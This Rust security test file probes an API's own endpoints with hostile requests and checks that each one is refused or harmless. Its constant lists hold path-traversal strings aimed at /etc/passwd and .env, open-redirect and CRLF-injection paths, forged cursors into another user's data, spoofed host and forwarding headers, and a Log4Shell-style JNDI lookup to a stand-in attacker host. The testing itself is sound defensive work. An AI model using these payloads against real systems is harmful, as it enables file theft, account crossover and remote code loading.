//! Addresses that are dressed up as others, and hosts and addresses that a caller makes up.

use journeys::play;
use security::attack::{Attack, attack, run};
use security::scene::Scene;
use security::scene::Who::{Ann, Nobody};
use security::tell;

type Outcome = anyhow::Result<()>;

/// Addresses that nothing of ours has. The first ones came from real scanners.
const ODD: [&str; 67] = [
    "/git.new/https://evil.example",
    "/git.new/evil",
    "/https://evil.example",
    "/https:/evil.example",
    "/http:%2f%2fevil.example",
    "//evil.example",
    "//evil.example/api/user",
    "/\\evil.example",
    "/%5cevil.example",
    "/%2f%2fevil.example",
    "/.git/config",
    "/.env",
    "/..",
    "/../api/user",
    "/../../etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%252e%252e/etc/passwd",
    "/..;/api/user",
    "/;/api/user",
    "/api",
    "/api/",
    "/api//user",
    "/api/./user",
    "/api/../api/user",
    "/api/%2e/user",
    "/api/%2e%2e/api/user",
    "/api/posts/..",
    "/api/posts/%2e%2e",
    "/api/posts/../user",
    "/api%2fuser",
    "/api%2Fuser",
    "/api\\user",
    "/api%5cuser",
    "/api/user/",
    "/api/user//",
    "/api/user/.",
    "/api/user/..",
    "/api/user;a=b",
    "/api/user;jsessionid=evil",
    "/api/user.json",
    "/api/user%00",
    "/api/user%00.json",
    "/api/user%0d%0aset-cookie:%20evil=1",
    "/api/user%20",
    "/api/user%09",
    "/api/user%3fa=b",
    "/api/user%23",
    "/API/user",
    "/api/USER",
    "/Api/User",
    "/api/%75ser",
    "/%61pi/user",
    "/api/us%C3%A9r",
    "/api/%c0%ae%c0%ae/user",
    "/api/%u002e%u002e/user",
    "/api/%zz",
    "/api/%",
    "/api/posts/{draft}/",
    "/api/posts/{draft}/approve/",
    "/api/posts/{draft}%2fapprove",
    "/api/posts//approve",
    "/api/posts/{draft}/approve/evil",
    "/oauth/x",
    "/oauth/x/callback/",
    "/oauth/evil/start",
    "/oauth/X/start",
];

/// Letters that no client sends; the server's own parser may be the one to refuse them.
const RAW: [&str; 10] = [
    "/api/user\0",
    "/api/us\u{1}er",
    "/api/user\u{7f}",
    "/api/us\u{e9}r",
    "/api/{evil}",
    "/api/user|evil",
    "/api/<script>evil</script>",
    "/api/\"evil\"",
    "/api/user^evil",
    "api/user",
];

/// Queries that are no queries of ours: the target, the status and the code.
const QUERIES: [(&str, u16, &str); 16] = [
    ("/api/posts?limit=0", 400, "malformed_request"),
    ("/api/posts?limit=101", 400, "malformed_request"),
    ("/api/posts?limit=-1", 400, "malformed_request"),
    ("/api/posts?limit=99999999999999999999999", 400, "malformed_request"),
    ("/api/posts?limit=1e1", 400, "malformed_request"),
    ("/api/posts?limit=1&limit=2", 400, "malformed_request"),
    ("/api/posts?evil=1", 400, "malformed_request"),
    ("/api/posts?status=evil", 400, "malformed_request"),
    ("/api/posts?platform=evil", 400, "malformed_request"),
    ("/api/posts?group_id=../evil", 400, "malformed_request"),
    ("/api/posts?from=evil", 400, "malformed_request"),
    ("/api/posts?from=2026-12-02T00:00:00Z&to=2026-12-01T00:00:00Z", 400, "malformed_request"),
    ("/api/quota/history?limit=0", 400, "malformed_request"),
    ("/api/quota/history?evil=1", 400, "malformed_request"),
    ("/oauth/x/start?evil=1", 400, "malformed_request"),
    ("/oauth/x/start?return_to=/posts&return_to=//evil.example", 400, "malformed_request"),
];

fn addresses() -> Vec<Attack> {
    let mut rows: Vec<_> = ODD.into_iter().map(|path| attack("an odd address", Ann, "GET", path)).collect();
    rows.extend(ODD.into_iter().take(20).map(|path| attack("an odd address without a session", Nobody, "GET", path)));
    rows.extend(ODD.into_iter().take(20).map(|path| attack("an odd address posted to", Ann, "POST", path).json("{}")));
    rows.extend(RAW.into_iter().map(|path| attack("letters that no address has", Ann, "GET", path)));
    rows.push(attack("an address of three kilobytes", Ann, "GET", format!("/api/{}", "evil".repeat(750))).gets(400, "malformed_request"));
    rows.push(
        attack("a query of five kilobytes", Ann, "GET", format!("/api/posts?a={}", "evil".repeat(1_250))).gets(400, "malformed_request"),
    );
    rows.push(attack("markup in the query", Ann, "GET", "/api/posts?cursor=<evil>"));
    rows.push(attack("quotes in the query", Ann, "GET", "/api/posts?cursor=\"evil\""));
    rows.extend(QUERIES.into_iter().map(|(target, status, code)| attack("an odd query", Ann, "GET", target).gets(status, code)));
    rows
}

/// Cursors that this user was never given for this list.
fn cursors(scene: &Scene<'_>) -> Vec<Attack> {
    let forged = |text: &str| data_encoding::BASE64URL_NOPAD.encode(scene.filled(text).as_bytes());
    let mut rows = Vec::new();
    for (list, own, others) in [("/api/posts", "history_cursor", "eves_cursor"), ("/api/quota/history", "posts_cursor", "eves_history")] {
        let odd = [
            ("another's cursor", format!("{{{others}}}")),
            ("the cursor of another list", format!("{{{own}}}")),
            ("an empty cursor", String::new()),
            ("a cursor that is no base64", "***".to_owned()),
            ("a cursor for a user who is none", forged("evil\ndesc\npk\nUSER#evil\nsk\nPOST#evil")),
            ("a cursor into another's things", forged("{user}\ndesc\npk\nUSER#{eves_user}\nsk\nHISTORY#0")),
            ("a cursor into another's list", forged("{user}\ndesc\nlist_pk\n{eves_user}\nlist_sk\n0\npk\nUSER#{user}\nsk\nPOST#0")),
            ("a cursor into the profile", forged("{user}\ndesc\npk\nUSER#{user}\nsk\nPROFILE")),
            ("a cursor with a key too many", forged("{user}\ndesc\npk\nUSER#{user}\nsk\nHISTORY#0\nevil\n1")),
            ("a cursor with a key twice", forged("{user}\ndesc\nsk\nHISTORY#0\nsk\nHISTORY#1")),
            ("a cursor with half a key", forged("{user}\ndesc\npk")),
            ("a cursor of binary", data_encoding::BASE64URL_NOPAD.encode(&[0xff, 0xfe, 0])),
            ("a cursor of two kilobytes", "A".repeat(2_048)),
        ];
        rows.extend(odd.map(|(what, cursor)| attack(what, Ann, "GET", format!("{list}?cursor={cursor}")).gets(400, "invalid_cursor")));
    }
    // Where a cursor of hers is in her own list is hers to say: it leads nowhere else.
    let moved = forged("{user}\ndesc\npk\nUSER#{user}\nsk\nHISTORY#zzz");
    rows.push(attack("a cursor of hers, moved", Ann, "GET", format!("/api/quota/history?cursor={moved}")).is_harmless(200));
    rows
}

/// Headers by which a caller says who or where they are. Nothing of ours believes one.
fn spoofed() -> Vec<Attack> {
    let headers = [
        ("host", "evil.example"),
        ("host", "localhost:1@evil.example"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-for", "203.0.113.66, evil"),
        ("x-forwarded-proto", "evil"),
        ("forwarded", "for=203.0.113.66;host=evil.example"),
        ("x-original-url", "/api/evil"),
        ("x-rewrite-url", "/api/evil"),
        ("x-real-ip", "203.0.113.66"),
        ("x-user-id", "{eves_user}"),
        ("accept", "text/html,evil/evil"),
        ("accept-language", "evil"),
        ("range", "bytes=0-evil"),
        ("if-none-match", "\"evil\""),
        ("if-modified-since", "evil"),
        ("expect", "evil"),
        ("upgrade", "evil"),
        ("referer", "https://evil.example/"),
        ("user-agent", "evil ${jndi:ldap://evil.example} <script>"),
    ];
    let mut rows: Vec<_> = headers
        .into_iter()
        .map(|(name, value)| attack(format!("a spoofed {name}"), Ann, "GET", "/api/user").with(name, value).is_harmless(200))
        .collect();
    let huge = attack("twenty kilobytes of headers", Ann, "GET", "/api/user").with("x-evil", "evil".repeat(5_000));
    rows.push(huge.gets(400, "malformed_request"));
    rows
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_that_is_none_of_ours_is_neither_served_echoed_nor_redirected() -> Outcome {
    play(async |stage| {
        let scene = Scene::set(stage).await?;
        tell(run(&scene, &addresses()).await?, "attack rows on addresses");
        Ok(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cursors_and_headers_that_a_caller_makes_up_are_not_believed() -> Outcome {
    play(async |stage| {
        let scene = Scene::set(stage).await?;
        tell(run(&scene, &cursors(&scene)).await? + run(&scene, &spoofed()).await?, "attack rows on cursors and headers");
        Ok(())
    })
    .await
}
